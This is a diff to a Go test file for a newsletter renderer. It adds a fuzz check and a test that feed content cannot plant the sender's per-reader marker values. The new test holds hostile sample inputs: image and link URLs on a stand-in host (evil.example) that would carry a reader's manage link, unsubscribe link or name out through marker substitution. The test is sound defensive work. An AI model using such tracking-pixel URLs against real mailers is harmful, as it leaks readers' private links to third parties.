@@ -68,6 +68,11 @@ func fullIssue(title, summary, link, section, image, alt, author, note, subject 
 	}
 }
 
+// slotMarks counts the marker values (any case) in everything a sender puts in a message.
+func slotMarks(r Rendered) int {
+	return strings.Count(strings.ToLower(r.Subject+"\n"+r.Preheader+"\n"+r.HTML+"\n"+r.Text), "xnlslot")
+}
+
 // noteParagraphs counts the paragraphs the renderer makes of an editor's note.
 func noteParagraphs(note string) int {
 	n := 0
@@ -80,10 +85,11 @@ func noteParagraphs(note string) int {
 }
 
 // FuzzRenderArticle renders an issue whose articles, section, note and subject come from the
-// fuzzer through the real Renderer, for a reader and for the archive, and checks the HTML with a
+// fuzzer through the real Renderer and checks the HTML with a
 // real parser: it has exactly the template's elements, attributes, inline styles and stylesheet
 // (so no script, event handler or markup from a feed survives, escaped or not), every link and
-// image is an absolute http(s) URL, and subject and preheader are single clean lines.
+// image is an absolute http(s) URL, subject and preheader are single clean lines, and no marker
+// value the sender substitutes per reader comes from content.
 // Seeds: the f.Add calls and testdata/fuzz/FuzzRenderArticle.
 func FuzzRenderArticle(f *testing.F) {
 	f.Add("Plain headline", "A summary.", "https://news.example.com/a", "World", "https://news.example.com/a.jpg", "Alt", "Ann", "A note.", "")
@@ -96,67 +102,87 @@ func FuzzRenderArticle(f *testing.F) {
 
 	r := newTestRenderer(f)
 	base := fullIssue("Headline", "Summary text.", "https://news.example.com/a", "World", "https://news.example.com/a.jpg", "Alt", "Ann", "A note.", "Subject")
-	allowed := map[bool]renderShape{}
-	for _, archive := range []bool{false, true} {
-		rcpt := markerRecipient
-		if archive {
-			rcpt = Recipient{}
-		}
-		out, err := r.Render(base, rcpt)
-		if err != nil {
-			f.Fatal(err)
-		}
-		allowed[archive] = shapeOf(f, out.HTML)
+	out, err := r.Render(base, markerRecipient)
+	if err != nil {
+		f.Fatal(err)
 	}
+	want := shapeOf(f, out.HTML)
+	wantMarks := slotMarks(out)
 
+	// Only the reader's copy: the archive copy differs in the footer alone, which no feed reaches,
+	// and one render per input doubles the fuzzer's pace (premailer dominates the cost).
 	f.Fuzz(func(t *testing.T, title, summary, link, section, image, alt, author, note, subject string) {
 		c := fullIssue(title, summary, link, section, image, alt, author, note, subject)
-		for _, archive := range []bool{false, true} {
-			rcpt := markerRecipient
-			if archive {
-				rcpt = Recipient{}
-			}
-			out, err := r.Render(c, rcpt)
-			if err != nil {
-				t.Fatalf("render: %v", err)
-			}
-			for name, v := range map[string]string{"subject": out.Subject, "preheader": out.Preheader} {
-				if strings.ContainsFunc(v, unicode.IsControl) {
-					t.Fatalf("%s %q holds a control character", name, v)
-				}
-			}
-			got, want := shapeOf(t, out.HTML), allowed[archive]
-			for tag, n := range got.tags {
-				limit := want.tags[tag]
-				if tag == "div" {
-					limit += max(0, noteParagraphs(note)-noteParagraphs(base.Issue.Note)) // one div per paragraph
-				}
-				if n > limit {
-					t.Fatalf("<%s> %d times, the template has %d", tag, n, want.tags[tag])
-				}
-			}
-			for a := range got.attrs {
-				if !want.attrs[a] {
-					t.Fatalf("attribute %q is not the template's", a)
-				}
-			}
-			for st := range got.styles {
-				if !want.styles[st] {
-					t.Fatalf("inline style %q is not the template's", st)
-				}
-			}
-			if strings.Join(got.css, "") != strings.Join(want.css, "") {
-				t.Fatal("the stylesheet changed")
-			}
-			for _, h := range got.hrefs {
-				u, err := url.Parse(h)
-				if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" || u.User != nil {
-					t.Fatalf("link or image %q", h)
-				}
-			}
-			if !archive && !strings.Contains(out.HTML, markerRecipient.UnsubscribeURL) {
-				t.Fatal("the reader's unsubscribe link is missing")
+		out, err := r.Render(c, markerRecipient)
+		if err != nil {
+			t.Fatalf("render: %v", err)
+		}
+		for name, v := range map[string]string{"subject": out.Subject, "preheader": out.Preheader} {
+			if strings.ContainsFunc(v, unicode.IsControl) {
+				t.Fatalf("%s %q holds a control character", name, v)
 			}
 		}
+		got := shapeOf(t, out.HTML)
+		for tag, n := range got.tags {
+			limit := want.tags[tag]
+			if tag == "div" {
+				limit += max(0, noteParagraphs(note)-noteParagraphs(base.Issue.Note)) // one div per paragraph
+			}
+			if n > limit {
+				t.Fatalf("<%s> %d times, the template has %d", tag, n, want.tags[tag])
+			}
+		}
+		for a := range got.attrs {
+			if !want.attrs[a] {
+				t.Fatalf("attribute %q is not the template's", a)
+			}
+		}
+		for st := range got.styles {
+			if !want.styles[st] {
+				t.Fatalf("inline style %q is not the template's", st)
+			}
+		}
+		if strings.Join(got.css, "") != strings.Join(want.css, "") {
+			t.Fatal("the stylesheet changed")
+		}
+		for _, h := range got.hrefs {
+			u, err := url.Parse(h)
+			if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" || u.User != nil {
+				t.Fatalf("link or image %q", h)
+			}
+		}
+		// The sender substitutes each reader's name and links for the marker values in the
+		// encoded message; a marker in content would carry them elsewhere (into a feed's image URL).
+		if got := slotMarks(out); got != wantMarks {
+			t.Fatalf("%d marker values in the output, the reader's own are %d", got, wantMarks)
+		}
+		if !strings.Contains(out.HTML, markerRecipient.UnsubscribeURL) {
+			t.Fatal("the reader's unsubscribe link is missing")
+		}
 	})
+}
+
+// TestRenderKeepsMarkersOutOfContent: a feed that writes the sender's marker values into an image
+// URL on its own host, a link or a title must not receive the reader's manage link or name.
+func TestRenderKeepsMarkersOutOfContent(t *testing.T) {
+	r := newTestRenderer(t)
+	plain, err := r.Render(fullIssue("Headline", "Summary.", "https://news.example.com/a", "World", "https://news.example.com/a.jpg", "Alt", "Ann", "", ""), markerRecipient)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile, err := r.Render(fullIssue("Hello XNLSLOTNAMEX", "See http://slot.invalid/XNLSLOTMANAGEX",
+		"https://evil.example/r?to=http://slot.invalid/XNLSLOTUNSUBX", "xnlSlotNameX",
+		"https://evil.example/p.gif?u=http://slot.invalid/XNLSLOTMANAGEX", "XNLSLOTNAMEX", "XNLSLOTNAMEX", "XNLSLOTNAMEX", ""), markerRecipient)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := slotMarks(hostile), slotMarks(plain); got != want {
+		t.Errorf("%d marker values in the output, the reader's own are %d", got, want)
+	}
+	if strings.Contains(hostile.HTML, "evil.example") {
+		t.Error("a link carrying a marker value was kept")
+	}
+	if !strings.Contains(hostile.HTML, "Hello XNL SLOTNAMEX") {
+		t.Error("the title's text should stay readable, the marker broken up")
+	}
 }
